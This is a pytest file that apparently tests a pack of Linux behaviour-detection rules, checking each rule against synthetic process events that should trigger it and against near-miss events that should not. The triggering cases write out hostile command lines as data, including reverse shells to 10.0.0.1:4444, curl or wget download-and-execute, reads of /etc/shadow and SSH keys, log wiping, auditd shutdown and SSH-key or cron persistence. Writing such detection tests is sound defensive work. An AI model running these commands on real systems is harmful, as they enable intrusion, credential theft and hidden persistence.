"""The example rules, one by one: what each one finds, and what comes near and is not it."""

from __future__ import annotations

import itertools
import shlex
from collections.abc import Mapping, Sequence
from pathlib import Path

import attrs
import pytest

from kestrel_ebpf.plugin import kestrel_schema
from kestrel_eql.compiler import EqlCompiler
from kestrel_framework import Detector, LoadReport, SchemaRegistry, load_rules
from kestrel_framework.event import Document, EventBatch
from kestrel_framework.rule import RuleSet, RuleSeverity, SequenceRule
from kestrel_framework.values import format_timestamp

PACK = Path(__file__).resolve().parents[2] / "examples/rules/linux-behaviour"
SECOND = 1_000_000_000
BEGIN = 1_700_000_000 * SECOND
_numbers = itertools.count(1)


@attrs.frozen
class Step:
    """An event of a story: a process executes, changes its name or ends, after some seconds."""

    line: str
    program: str | None = None
    parent: str = "bash"
    parent_id: str = "shell"
    id: str | None = None
    user: str = "0"
    real_user: str = "0"
    action: str = "exec"
    thread: str | None = None
    after: float = 1.0

    def document(self, at: int) -> Document:
        args = shlex.split(self.line)
        program = self.program or f"/usr/bin/{args[0].rsplit('/', 1)[-1]}"
        process: dict[str, object] = {
            "entity_id": self.id or f"process {next(_numbers)}",
            "name": program.rsplit("/", 1)[-1],
            "executable": program,
            "args": args,
            "args_count": len(args),
            "command_line": " ".join(args),
            "parent": {"pid": 100, "entity_id": self.parent_id, "name": self.parent},
            "real_user": {"id": self.real_user},
        }
        if self.thread is not None:
            process["thread"] = {"name": self.thread}
        kind = {"exec": "start", "exit": "end"}.get(self.action, "change")
        return {
            "@timestamp": format_timestamp(at),
            "event": {"category": ["process"], "type": [kind], "action": self.action},
            "host": {"os": {"type": "linux"}},
            "process": process,
            "user": {"id": self.user},
        }


Story = Sequence[Step]


def one(line: str, program: str | None = None, **more: str) -> Story:
    return [Step(line, program, **more)]  # type: ignore[arg-type]


def several(*lines: str, after: float = 1.0) -> Story:
    return [Step(line, after=after) for line in lines]


def repeated(line: str, times: int, after: float = 1.0) -> Story:
    return [Step(line, after=after)] * times


WEB_SHELL = Step("sh -c id", "/usr/bin/dash", parent="nginx", id="web shell")
SITE_PROGRAM = Step("/srv/site/counter 5", parent="apache2", id="counter")
SU = Step("su -c x", id="su")
QUESTIONS = ("whoami", "id", "hostname", "uname -a", "ss -lnt", "ps aux")

FOUND: Mapping[str, Sequence[Story]] = {
    "account-created": [one("useradd -m support")],
    "account-made-administrator": [several("useradd support", "usermod -aG sudo support")],
    "archive-and-upload": [
        several("tar -czf /tmp/x.tgz /etc", "curl -T /tmp/x.tgz http://10.0.0.1/"),
        several("zip -r /tmp/x.zip /home/operator", "scp /tmp/x.zip host:"),
    ],
    "container-escape": [
        one("nsenter -t 1 -m -u sh"),
        one("nsenter --target=1 --mount"),
        one("curl --unix-socket /var/run/docker.sock http://x/containers"),
        one("docker run --privileged alpine"),
        one("sh -c 'echo /x > /tmp/cg/release_agent'"),
        one("chroot /host sh"),
    ],
    "credential-file-read": [
        one("cat /etc/shadow"),
        one("cp /home/operator/.ssh/id_rsa /tmp/x"),
        one("grep key /home/operator/.aws/credentials"),
    ],
    "cron-persistence": [
        one("tee /etc/cron.d/telemetry"),
        one("bash -c 'echo x > /etc/cron.d/telemetry'"),
        one("crontab /tmp/table"),
    ],
    "discovery-burst": [several(*QUESTIONS)],
    "download-and-execute": [
        [
            Step("curl -o /tmp/x http://10.0.0.1/x"),
            Step("/tmp/x --quiet", "/tmp/x"),
        ],
        [Step("wget http://10.0.0.1/x.sh"), Step("sh /tmp/x.sh", "/usr/bin/dash")],
    ],
    "dynamic-linker-hijack": [
        one("tee /etc/ld.so.preload"),
        one("bash -c 'echo /tmp/x.so > /etc/ld.so.preload'"),
    ],
    "encoded-script-to-shell": [
        several("base64 -d", "sh"),
        several("sh", "base64 --decode"),
        several("xxd -r -p", "bash -s"),
    ],
    "hidden-executable": [
        one("./x", "/tmp/.x"),
        one("x", "/var/tmp/a/.hidden/x"),
        one("bash /dev/shm/.x.sh"),
    ],
    "history-clearing": [
        one("rm -f /root/.bash_history"),
        one("ln -sf /dev/null /home/operator/.zsh_history"),
        one("bash -c 'unset HISTFILE; ls'"),
    ],
    "kernel-module-load": [one("insmod /tmp/x.ko"), one("modprobe x", "/usr/bin/kmod")],
    "kernel-thread-masquerade": [
        one("[kworker/0:1]", "/usr/bin/sleep"),
        one("x", "/tmp/kworker"),
        one("python3 x.py", action="comm_change", thread="kworker/u8:2"),
    ],
    "log-deletion": [
        one("rm -rf /var/log/auth.log"),
        one("bash -c ': > /var/log/wtmp'"),
        one("journalctl --vacuum-time=1s"),
    ],
    "port-probe-burst": [repeated("nc -w 1 10.0.0.1 80", 8)],
    "port-scanner": [one("nmap -sS 10.0.0.0/24"), one("nc -zv 10.0.0.1 1-1000")],
    "privileged-credential-read": [
        [SU, Step("bash -c 'cat /etc/shadow'", parent="su", parent_id="su")]
    ],
    "program-in-memory": [one("x", "/dev/shm/x"), one("x", "/memfd:x")],
    "reverse-shell": [
        one("bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'"),
        one("python3 -c 'import socket,os,pty;s=socket.socket();pty.spawn(\"/bin/sh\")'"),
        one("nc -e /bin/sh 10.0.0.1 4444"),
        one("socat tcp:10.0.0.1:4444 exec:/bin/sh,pty"),
    ],
    "security-tool-stopped": [
        one("systemctl stop auditd"),
        one("iptables -F"),
        one("setenforce 0"),
        one("nft flush ruleset"),
    ],
    "setuid-bit-set": [
        one("chmod u+s /tmp/x"),
        one("chmod 4755 /tmp/x"),
        one("chmod 06755 /tmp/x"),
        one("chmod a+xs /tmp/x"),
    ],
    "setuid-program-unusual": [one("helper -p", "/var/tmp/helper", real_user="1000")],
    "ssh-key-planting": [
        one("tee -a /root/.ssh/authorized_keys"),
        one("sh -c 'echo key >> /home/operator/.ssh/authorized_keys'"),
    ],
    "systemd-persistence": [
        several("tee /etc/systemd/system/x.service", "systemctl enable x.service")
    ],
    "timestomp": [one("touch -r /bin/ls /usr/bin/x"), one("touch -t 202001010000 /etc/passwd")],
    "web-program-shell": [
        [SITE_PROGRAM, Step("bash -c 'cat /etc/passwd'", parent="counter", parent_id="counter")]
    ],
    "web-server-hands-on": [
        [WEB_SHELL, Step("curl http://10.0.0.1/x", parent="dash", parent_id="web shell")]
    ],
    "web-server-shell": [[WEB_SHELL], one("bash -c id", parent="php-fpm8.2")],
}

NEAR: Mapping[str, Sequence[Story]] = {
    "account-created": [one("useradd -D"), one("useradd -r _apt", parent="dpkg"), one("userdel x")],
    "account-made-administrator": [
        several("useradd support", "usermod -aG audio support"),
        several("usermod -aG sudo operator", "useradd support"),
        several("useradd support", "usermod -aG sudo support", after=601),
    ],
    "archive-and-upload": [
        several("tar -czf /tmp/x.tgz build", "curl -T /tmp/x.tgz http://10.0.0.1/"),
        several("tar -czf /tmp/x.tgz /etc", "curl http://10.0.0.1/"),
    ],
    "container-escape": [
        one("nsenter -t 4242 -m sh"),
        one("curl http://10.0.0.1/docker"),
        one("docker run alpine"),
        one("chroot /srv/build sh"),
    ],
    "credential-file-read": [
        one("cat /etc/passwd"),
        one("cat /home/operator/.ssh/id_ed25519.pub"),
        one("ls -l /etc/shadow"),
    ],
    "cron-persistence": [
        one("cat /etc/cron.d/telemetry"),
        one("crontab -l"),
        one("cp x /etc/cron.d/x", parent="dpkg"),
    ],
    "discovery-burst": [
        several(*QUESTIONS[:5]),
        several(*QUESTIONS, after=7),
        [Step(line, parent_id=str(number)) for number, line in enumerate(QUESTIONS)],
        repeated("mount -t tmpfs x /mnt", 6),
    ],
    "download-and-execute": [
        [Step("curl http://10.0.0.1/health"), Step("/tmp/x", "/tmp/x")],
        [Step("curl -o /tmp/x http://10.0.0.1/x"), Step("x", "/usr/bin/x")],
        [Step("/tmp/x", "/tmp/x"), Step("curl -o /tmp/x http://10.0.0.1/x")],
        [Step("wget http://10.0.0.1/x"), Step("/tmp/x", "/tmp/x", parent_id="another")],
    ],
    "dynamic-linker-hijack": [one("cat /etc/ld.so.preload"), one("tee /etc/ld.so.conf")],
    "encoded-script-to-shell": [
        several("base64 -w0 x", "sh"),
        several("base64 -d", "sh script.sh"),
        [Step("base64 -d"), Step("sh", parent_id="another")],
    ],
    "hidden-executable": [
        one("./x", "/tmp/x"),
        one("x", "/home/operator/.local/bin/x"),
        one("cat /tmp/.x"),
    ],
    "history-clearing": [one("cat /root/.bash_history"), one("rm -f /root/.bashrc")],
    "kernel-module-load": [
        one("modprobe --show-depends x"),
        one("modprobe x", parent="systemd-udevd"),
        one("lsmod", "/usr/bin/kmod"),
    ],
    "kernel-thread-masquerade": [
        one("[ -f /etc/passwd ]", "/usr/bin/["),
        one("worker", "/usr/bin/worker"),
        one("python3 x.py", action="comm_change", thread="worker-1"),
    ],
    "log-deletion": [
        one("rm -f build/x.log"),
        one("tail /var/log/auth.log"),
        one("rm /var/log/old.gz", parent="logrotate"),
        one("journalctl --vacuum-time=10d"),
    ],
    "port-probe-burst": [
        repeated("nc -w 1 10.0.0.1 80", 7),
        repeated("nc -w 1 10.0.0.1 80", 8, after=5),
    ],
    "port-scanner": [one("nc 10.0.0.1 80"), one("cat nmap.txt")],
    "privileged-credential-read": [
        [SU, Step("bash -c 'cat /etc/passwd'", parent="su", parent_id="su")],
        [SU, Step("bash -c 'cat /etc/shadow'", parent_id="another")],
        [
            SU,
            Step("su", id="su", action="exit"),
            Step("bash -c 'cat /etc/shadow'", parent="su", parent_id="su"),
        ],
    ],
    "program-in-memory": [one("x /dev/shm/x"), one("x", "/tmp/x")],
    "reverse-shell": [
        one("bash -c 'ls /dev/tcp'"),
        one("python3 -c 'import socket; print(socket.gethostname())'"),
        one("nc -l 8080"),
        one("socat tcp-listen:80 tcp:10.0.0.1:80"),
    ],
    "security-tool-stopped": [
        one("systemctl stop nginx"),
        one("systemctl status auditd"),
        one("iptables -L"),
    ],
    "setuid-bit-set": [
        one("chmod 0755 x"),
        one("chmod u+x x"),
        one("chmod 644 x"),
        one("chmod +x s"),
        one("chmod u+s /usr/bin/sudo", parent="dpkg"),
    ],
    "setuid-program-unusual": [
        one("sudo ls", real_user="1000"),
        one("helper", "/var/tmp/helper"),
        one("helper", "/var/tmp/helper", user="1000", real_user="1000"),
    ],
    "ssh-key-planting": [one("cat /root/.ssh/authorized_keys"), one("tee /root/.ssh/config")],
    "systemd-persistence": [
        several("tee /etc/systemd/system/x.service", "systemctl status x"),
        several("cat /etc/systemd/system/x.service", "systemctl enable x"),
    ],
    "timestomp": [one("touch x"), one("touch -t 202001010000 build/x"), one("touch /etc/x")],
    "web-program-shell": [
        [SITE_PROGRAM, Step("bash -c id", parent_id="another")],
        [SITE_PROGRAM, Step("bash /srv/site/daily", parent_id="counter")],
        [SITE_PROGRAM, Step("bash -c id", parent_id="counter", after=61)],
        several("/srv/site/counter 5", "bash -c id"),
    ],
    "web-server-hands-on": [
        [WEB_SHELL, Step("curl http://10.0.0.1/x", parent_id="another")],
        [
            WEB_SHELL,
            Step("sh", id="web shell", action="exit"),
            Step("curl http://10.0.0.1/x", parent_id="web shell"),
        ],
        [WEB_SHELL, Step("curl http://10.0.0.1/x", parent_id="web shell", after=601)],
    ],
    "web-server-shell": [one("sh -c id", parent="cron"), one("nginx -t", parent="nginx")],
}


def load_pack() -> LoadReport:
    extension = kestrel_schema()
    schema = SchemaRegistry.ecs().extended(extension.fields, extension.event_types)
    return load_rules(PACK, compilers=[EqlCompiler()], schema=schema)


@pytest.fixture(scope="module")
def report() -> LoadReport:
    return load_pack()


def fires(report: LoadReport, rule_id: str, story: Story) -> bool:
    at = BEGIN
    documents = []
    for step in story:
        at += round(step.after * SECOND)
        documents.append(step.document(at))
    alone = RuleSet(rule for rule in report.rules if rule.rule_id == rule_id)
    assert len(alone) == 1
    detector = Detector(alone)
    batch = EventBatch(documents=documents, stream="story", first_offset=0)
    return bool(detector.feed(batch) + detector.finish())


def stories(table: Mapping[str, Sequence[Story]]) -> list[object]:
    return [
        pytest.param(rule, story, id=f"{rule}: {' ; '.join(step.line for step in story)}")
        for rule, told in table.items()
        for story in told
    ]


@pytest.mark.parametrize(("rule", "story"), stories(FOUND))
def test_a_rule_finds_what_it_describes(report: LoadReport, rule: str, story: Story) -> None:
    assert fires(report, rule, story)


@pytest.mark.parametrize(("rule", "story"), stories(NEAR))
def test_a_rule_leaves_alone_what_comes_near(report: LoadReport, rule: str, story: Story) -> None:
    assert not fires(report, rule, story)


def test_every_rule_compiles_without_a_warning(report: LoadReport) -> None:
    assert [*report.errors, *report.warnings] == []
    assert len(report.rules) == len(list(PACK.glob("*.eql"))) >= 18


def test_every_rule_has_examples_of_both_kinds(report: LoadReport) -> None:
    rules = {rule.metadata.rule_id for rule in report.rules}
    assert set(FOUND) == set(NEAR) == rules
    assert all(FOUND.values())
    assert all(NEAR.values())


def test_every_rule_says_what_people_need_to_know(report: LoadReport) -> None:
    bounds = {
        RuleSeverity.LOW: range(1, 40),
        RuleSeverity.MEDIUM: range(40, 61),
        RuleSeverity.HIGH: range(60, 85),
        RuleSeverity.CRITICAL: range(85, 101),
    }
    for rule in report.rules:
        metadata = rule.metadata
        assert metadata.name, metadata.rule_id
        assert len(metadata.description) > 25, metadata.rule_id
        assert metadata.false_positives, metadata.rule_id
        assert metadata.threat, metadata.rule_id
        assert all(url.startswith("https://attack.mitre.org/") for url in metadata.references)
        assert metadata.risk_score in bounds[metadata.severity], metadata.rule_id


def test_the_pack_shows_what_sequences_can_do(report: LoadReport) -> None:
    sequences = [rule.body for rule in report.rules if isinstance(rule.body, SequenceRule)]
    assert len(sequences) >= 5
    assert any(sequence.until is not None for sequence in sequences)
